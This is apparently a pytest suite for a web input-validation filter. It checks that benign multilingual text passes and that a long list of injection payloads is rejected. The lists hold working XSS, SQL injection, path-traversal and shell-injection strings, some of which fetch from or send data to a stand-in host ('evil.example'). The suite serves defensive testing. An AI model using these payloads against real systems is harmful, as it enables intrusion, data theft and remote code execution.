"""text_policy: canonicalisation, then injection constructs refused and real text let through."""

import pytest
from hypothesis import given, settings, strategies as st

from wsgisec.whitelist.text_policy import Violation, canonical, check

BENIGN = [
    "O'Brien", "O'Brien's sprocket", "AT&T", "Tom & Jerry", "Q&A", "3 < 5", "a <= b", "5 > 3",
    "x < y and y > z", "50% off", "100%", "2+2=4", "black or white", "salt; pepper", "or else",
    "Wait... what?", "rock 'n' roll", "the dogs' and cats' toys", "don't stop", "It's 9 o'clock -- late",
    "He said \"hi\" -- then left", "email me at a.b@example.com", "see http://example.com/page?a=1",
    "line one\nline two\r\n\tindented", "price: $5 (approx)", "Item #3", "If (x) then", "sleep well (8h)",
    "SELECT your size", "Please select one from the list", "update: we set out at 5", "drop by table 4",
    "we cat-sit on weekends; cat lovers welcome", "once = twice", "onion = tasty", "online = yes",
    "1/2 cup", "e.g. foo/bar", "C:\\Users is a folder?", "user_name-123", "2026-11-29T04:00:00Z",
    "Grüße aus Köln", "São Paulo", "naïve café", "日本語のテキスト", "中文测试", "مرحبا بالعالم", "שלום עולם",
    "Привет, мир", "Ελληνικά", "हिन्दी पाठ", "한국어", "👍🏽 great 👨‍👩‍👧 family", "🇫🇷 drapeau",
    "Ｆｕｌｌｗｉｄｔｈ ｔｅｘｔ", "a - b", "x-y", "Widget", "", "   ", "R&D", "cost = 3 * 4", "#hashtag",
    "Union Station", "select committee", "Order by phone", "My ID is 42", "ls is short for list",
    "The café's menu: soup & salad", "I ❤ NY", "ß", "ﬁne ligature", "It\u2019s O\u2019Brien\u2019s",
    "more 'fun' than ever", "time; money", "head 'n shoulders", "find the cat; it sleeps", "src/*.py",
    "He said \u201chi\u201d", "if it exists, for sure", "50% to 60% more", "Accept: text/html,*/*;q=0.8",
]

ATTACKS = [
    # (value, rule)
    ("<script>alert(1)</script>", "HTML or script markup"),
    ("<img src=x onerror=alert(1)>", "HTML or script markup"),
    ("<svg/onload=alert(1)>", "HTML or script markup"),
    ("</title><script>", "HTML or script markup"),
    ("<!--", "HTML or script markup"),
    ("<?php system('id'); ?>", "HTML or script markup"),
    ("<%= 7*7 %>", "HTML or script markup"),
    ("+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "HTML or script markup"),  # UTF-7
    ("+ADw-script+AD4-", "HTML or script markup"),
    ("＜script＞alert(1)＜/script＞", "HTML or script markup"),
    ("&lt;script&gt;alert(1)", "HTML or script markup"),
    ("\" onmouseover=\"alert(1)", "event-handler attribute"),
    ("' autofocus onfocus='alert(1)", "event-handler attribute"),
    ("x\" onerror =alert(1)", "event-handler attribute"),
    ("javascript:alert(1)", "script URL"),
    ("JaVaScRiPt:alert(1)", "script URL"),
    ("java\tscript:void(0)", "script URL"),
    ("java\nscript:void(0)", "script URL"),
    ("&#106;avascript:alert(1)", "script URL"),
    ("&#x6A;avascript&#x3A;alert(1)", "script URL"),
    ("vbscript:msgbox(1)", "script URL"),
    ("data:text/html;base64,PHNjcmlwdD4=", "script URL"),
    ("width: expression(alert(1))", "script URL"),
    ("admin'--", "SQL comment after a quote"),
    ("admin' #", "SQL comment after a quote"),
    ("admin'/*", "SQL comment after a quote"),
    ("1/**/union/**/select", "SQL inline comment"),
    ("/*!50000select*/", "SQL inline comment"),
    ("' OR '1'='1", "SQL tautology"),
    ("' or 1=1 --", "SQL comment after a quote"),
    ("' or 1=1", "SQL tautology"),
    ("1 OR 1=1", "SQL tautology"),
    ("x' AND 'a'='a", "SQL tautology"),
    ("1) or (1=1", "SQL tautology"),
    ("' || '1'='1", "SQL tautology"),
    ("admin' or 'x' like 'x", "SQL tautology"),
    ("1\u2018 OR \u20181\u2018=\u20181", "SQL tautology"),
    ("1; DROP TABLE users", "SQL stacked query"),
    ("1;shutdown", "SQL stacked query"),
    ("x'; exec xp_cmdshell 'dir'", "SQL stacked query"),
    ("1 UNION SELECT password FROM users", "SQL UNION SELECT"),
    ("1 union all select null,null", "SQL UNION SELECT"),
    ("1 and (select count(*) from users) > 0", "SQL statement"),
    ("select * from users where 1", "SQL statement"),
    ("drop table items", "SQL statement"),
    ("1 and sleep(5)", "SQL function"),
    ("1 and benchmark(1000000,md5(1))", "SQL function"),
    ("1; waitfor delay '0:0:5'", "SQL stacked query"),
    ("x and extractvalue(1,concat(0x7e,version()))", "SQL function"),
    ("1 and 1 in (select @@version)", "SQL statement"),
    ("from information_schema.tables", "SQL function"),
    ("into outfile '/tmp/x'", "SQL function"),
    ("../../etc/passwd", "path traversal"),
    ("..\\..\\windows\\win.ini", "path traversal"),
    ("..", "path traversal"),
    ("/etc/passwd", "path traversal"),
    ("C:\\Windows\\system32", "path traversal"),
    ("file:///etc/hosts", "path traversal"),
    ("php://filter/resource=index", "path traversal"),
    ("/proc/self/environ", "path traversal"),
    ("; cat /etc/passwd", "path traversal"),
    ("; cat /tmp/x", "command injection"),
    ("| whoami", "command injection"),
    ("x && id", "command injection"),
    ("x || ls -la", "command injection"),
    ("$(whoami)", "command injection"),
    ("`id`", "command injection"),
    ("${IFS}", "command injection"),
    ("x; /bin/sh -c 'id'", "command injection"),
    ("a\nwget http://evil.example/x", "command injection"),
    ("cmd /c dir", "command injection"),
    ("IF EXIST C:\\x ECHO found", "Windows command injection"),
    ("FOR %G IN (a b) DO echo %G", "Windows command injection"),
    ("type %USERPROFILE%", "Windows command injection"),
    ("Invoke-WebRequest http://evil.example/x.ps1", "Windows command injection"),
    ("x | nc evil.example 4444", "command injection"),
]

ENCODING = [
    ("%3Cscript%3E", "double or mixed encoding"),          # already decoded once by the URL parser
    ("%253Cscript%253E", "double or mixed encoding"),
    ("%2e%2e%2f", "double or mixed encoding"),
    ("%u003Cscript%u003E", "double or mixed encoding"),
    ("a\x00b", "control characters are not allowed"),
    ("x\x1b[31m", "control characters are not allowed"),
    ("x\x7f", "control characters are not allowed"),
    ("x\u0085y", "control characters are not allowed"),
    ("\u202eexe.txt", "control characters are not allowed"),
    ("%C0%AE%C0%AE%2F", "invalid percent-encoding")  # overlong UTF-8,
]


@pytest.mark.parametrize("value", [pytest.param(v, id=repr(v)[:40]) for v in BENIGN])
def test_real_text_passes(value):
    assert check(value) is None
    assert check(value, decoded=False) is None


@pytest.mark.parametrize("value, rule", [pytest.param(v, r, id=repr(v)[:40]) for v, r in ATTACKS])
def test_attacks_are_refused_with_the_rule_they_break(value, rule):
    violation = check(value)
    assert violation is not None and violation.rule == rule
    assert value not in violation.rule  # the rule never carries the value


@pytest.mark.parametrize("value, rule", [pytest.param(v, r, id=repr(v)[:40]) for v, r in ENCODING])
def test_double_encoding_and_control_characters(value, rule):
    violation = check(value)
    assert violation is not None and violation.rule == rule


@pytest.mark.parametrize("value, rule", [
    pytest.param("%3Cscript%3E", "HTML or script markup", id="one-layer-in-a-json-body"),
    pytest.param("%253Cscript%253E", "double or mixed encoding", id="two-layers-in-a-json-body"),
    pytest.param("..%2f..%2fetc", "path traversal", id="encoded-slash"),
])
def test_body_values_get_one_layer_of_decoding(value, rule):
    # JSON/XML values were never percent-encoded by the transport: one layer is decoded
    # and checked, a second layer is refused as double encoding.
    assert check(value, decoded=False).rule == rule


def test_canonical_form():
    assert canonical("ＳＥＬＥＣＴ") == "SELECT"
    assert canonical("&lt;b&gt;") == "<b>"
    assert canonical("50% off") == "50% off"
    assert canonical("%41", decoded=False) == "A"
    with pytest.raises(Violation):
        canonical("%2541", decoded=False)


@settings(max_examples=150, deadline=None, derandomize=True)
@given(st.text(alphabet=st.characters(whitelist_categories=("Lu", "Ll", "Lo", "Nd", "Zs", "So")), max_size=40))
def test_letters_digits_spaces_and_symbols_always_pass(text):
    # Words in any script, with spaces and emoji, are never an injection construct on their own...
    violation = check(text)
    # ...except where the words themselves spell SQL/shell syntax, which this alphabet
    # cannot produce without punctuation.
    assert violation is None, (text, violation.rule)


@pytest.mark.parametrize("value, refused", [
    pytest.param("{{" * 2000, False, id="unclosed-template"),
    pytest.param("or '" * 1000, True, id="unclosed-quotes-after-or"),
    pytest.param("x" + "." * 4000 + "y", False, id="long-dot-run"),
    pytest.param("data:" * 800, False, id="repeated-data-scheme"),
    pytest.param("/*" * 2000, True, id="unclosed-comments"),
    pytest.param("(" + "a" * 4000 + "(", False, id="long-name-before-paren"),
    pytest.param("'" + "a" * 4000, False, id="long-run-after-quote"),
])
def test_pathological_values_get_a_verdict(value, refused):
    # Every rule is bounded (no unbounded lazy scan per occurrence), so these answer in
    # linear time; a quadratic rule would make this test crawl.
    assert (check(value) is not None) is refused
